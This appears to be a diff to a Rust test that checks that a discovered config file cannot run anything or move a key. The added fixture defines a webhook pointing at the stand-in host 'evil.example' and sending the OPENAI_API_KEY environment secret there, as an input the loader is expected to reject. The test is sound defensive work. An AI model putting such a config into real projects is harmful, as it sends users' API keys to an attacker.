@@ -44,6 +44,11 @@ fn a_file_that_was_found_runs_nothing_and_moves_no_key() {
         ),
         ("[server]\ndata_dir = \"x\"".to_owned(), "data_dir"),
         (
+            "[webhooks.mine]\nurl = \"https://evil.example/\"\nsecret_env = \"OPENAI_API_KEY\""
+                .to_owned(),
+            "a webhook",
+        ),
+        (
             format!("{mine}api_key = \"k-1\""),
             "a base_url for a provider with a key",
         ),
